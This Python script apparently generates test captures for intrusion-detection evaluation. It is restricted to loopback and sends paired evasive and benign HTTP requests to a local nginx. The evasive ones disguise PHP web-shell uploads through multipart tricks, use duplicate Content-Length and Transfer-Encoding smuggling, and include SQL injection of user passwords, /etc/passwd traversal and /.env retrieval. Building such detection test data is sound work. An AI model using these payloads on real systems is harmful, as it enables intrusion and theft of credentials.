#!/usr/bin/env python3
"""Send the evasion scenarios of pcaps/evasion/ over real kernel TCP (loopback only).

usage: evasion.py --files DIR --src ADDR SCENARIO

Each scenario writes exact request bytes (Content-Length computed here) with
python sockets to nginx on 127.0.0.1:8080 and reads the replies, so the
capture is what the kernel and nginx really did.  Requests that must be split
over several TCP segments are written in pieces with a pause between them
(TCP_NODELAY), so each piece is its own segment.  Scenarios:

  filename-star           PHP upload named only by filename*=UTF-8''shell.php
  filename-star-benign    PDF upload named only by filename*=UTF-8''permit.pdf
  bare-lf                 multipart body with bare-LF line ends, PHP in cat.jpg
  bare-lf-benign          the same syntax carrying a real PDF
  boundary-decoy          xboundary=decoy before boundary=real, PHP upload
  boundary-quoted-benign  a quoted boundary holding a ';', PDF upload
  quoted-filename         filename="shell;.php"
  quoted-filename-benign  filename='permit.pdf', filename="Plans; 2026.pdf",
                          filename='Plans; 2026.pdf' (as PHP reads quotes)
  ambiguity               two Content-Length values; two filename params; two
                          Content-Type headers (text/plain, then multipart);
                          Transfer-Encoding with Content-Length
  resync                  keep-alive: a POST whose head spans two segments
                          (the second carries the marker X-Lost-Segment-2,
                          deleted from the capture afterwards), then attacks
  resync-benign           the same connection shape, then benign requests
"""
import argparse
import ipaddress
import os
import re
import socket
import sys
import time

HOST = "Host: 127.0.0.1:8080\r\n"
UA = "User-Agent: evasion-test/1.0\r\n"


def request(method, target, headers="", body=b"", content_length=True):
    head = "%s %s HTTP/1.1\r\n%s%s%s" % (method, target, HOST, UA, headers)
    if content_length and (body or method in ("POST", "PUT")):
        head += "Content-Length: %d\r\n" % len(body)
    return head.encode("latin-1") + b"\r\n" + body


def multipart(parts, boundary="real", eol=b"\r\n"):
    """parts: (disposition params, content type or None, content bytes)."""
    out = b""
    for disp, ctype, content in parts:
        out += b"--" + boundary.encode() + eol
        out += b"Content-Disposition: form-data; " + disp.encode("latin-1") + eol
        if ctype:
            out += b"Content-Type: " + ctype.encode() + eol
        out += eol + content + eol
    return out + b"--" + boundary.encode() + b"--" + eol


def upload(disp, ctype, content, boundary="real", ct_header=None, eol=b"\r\n", path="/permits/upload"):
    body = multipart([(disp, ctype, content)], boundary, eol)
    ct = ct_header or "multipart/form-data; boundary=%s" % boundary
    return request("POST", path, "Content-Type: %s\r\n" % ct, body)


def converse(src, pieces, gap=0.3, idle=1.5):
    """One connection: write each piece (pausing `gap` between), then read until idle."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind((src, 0))
    s.settimeout(10)
    s.connect(("127.0.0.1", 8080))
    got = b""
    for i, p in enumerate(pieces):
        if i:
            time.sleep(gap)
        s.sendall(p)
    s.settimeout(idle)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            b = s.recv(65536)
        except socket.timeout:
            break
        if not b:
            break
        got += b
    s.close()
    statuses = [m.decode() for m in re.findall(rb"HTTP/1\.[01] (\d{3}) ", got)]
    print("evasion %s: %d pieces, statuses %s" % (src, len(pieces), " ".join(statuses)))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--files", required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("scenario")
    a = ap.parse_args()
    if not ipaddress.ip_address(a.src).is_loopback:
        sys.exit("evasion: loopback addresses only")
    rd = lambda n: open(os.path.join(a.files, n), "rb").read()
    php, pdf = rd("shell.php"), rd("permit.pdf")
    one = lambda req: converse(a.src, [req])
    sc = a.scenario

    if sc == "filename-star":
        one(upload("name=\"file\"; filename*=UTF-8''shell.php", "image/jpeg", php))
    elif sc == "filename-star-benign":
        one(upload("name=\"file\"; filename*=UTF-8''permit.pdf", "application/pdf", pdf))
    elif sc == "bare-lf":
        one(upload('name="file"; filename="cat.jpg"', "image/jpeg", php, eol=b"\n"))
    elif sc == "bare-lf-benign":
        one(upload('name="file"; filename="permit.pdf"', "application/pdf", pdf, eol=b"\n"))
    elif sc == "boundary-decoy":
        one(upload('name="file"; filename="shell.php"', "application/x-php", php,
                   ct_header="multipart/form-data; xboundary=decoy; boundary=real"))
    elif sc == "boundary-quoted-benign":
        one(upload('name="file"; filename="permit.pdf"', "application/pdf", pdf, boundary="a;b",
                   ct_header='multipart/form-data; boundary="a;b"'))
    elif sc == "quoted-filename":
        one(upload('name="file"; filename="shell;.php"', "image/jpeg", php))
    elif sc == "quoted-filename-benign":
        for disp in ("name='file'; filename='permit.pdf'",
                     'name="file"; filename="Plans; 2026.pdf"',
                     "name='file'; filename='Plans; 2026.pdf'"):
            one(upload(disp, "application/pdf", pdf))
    elif sc == "ambiguity":
        body = b"name=x&message=hello"
        one(request("POST", "/contact",
                    "Content-Type: application/x-www-form-urlencoded\r\n"
                    "Content-Length: %d\r\nContent-Length: %d\r\n" % (len(body), len(body) + 30),
                    body, content_length=False))
        one(upload('name="file"; filename="permit.pdf"; filename="shell.php"', "application/pdf", php))
        two_types = multipart([('name="file"; filename="shell.php"', "image/jpeg", php)])
        one(request("POST", "/permits/upload",
                    "Content-Type: text/plain\r\n"
                    "Content-Type: multipart/form-data; boundary=real\r\n", two_types))
        chunked = b"14\r\nname=x&message=hello\r\n0\r\n\r\n"
        one(request("POST", "/contact",
                    "Content-Type: application/x-www-form-urlencoded\r\n"
                    "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
                    chunked, content_length=False))
    elif sc in ("resync", "resync-benign"):
        form = b"name=Ada&message=" + b"x" * 200
        head = ("POST /contact HTTP/1.1\r\n" + HOST + UA +
                "X-Lost-Segment-1: " + "a" * 300 + "\r\n").encode()
        rest = ("X-Lost-Segment-2: " + "b" * 300 + "\r\n"
                "Content-Type: application/x-www-form-urlencoded\r\n"
                "Content-Length: %d\r\n\r\n" % len(form)).encode() + form
        if sc == "resync":
            after = [
                request("GET", "/api/search?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
                request("GET", "/news.html?page=../../../../etc/passwd"),
                request("GET", "/.env"),
                request("POST", "/admin/pages/1", "Content-Type: application/x-www-form-urlencoded\r\n",
                        b"title=Hacked"),
            ]
        else:
            after = [
                request("GET", "/news.html"),
                request("GET", "/api/search?q=library+hours"),
                request("GET", "/about.html"),
                request("POST", "/contact", "Content-Type: application/x-www-form-urlencoded\r\n",
                        b"name=Ada&message=thanks"),
            ]
        converse(a.src, [head, rest] + after)
    else:
        sys.exit("evasion: unknown scenario %s" % sc)


if __name__ == "__main__":
    main()
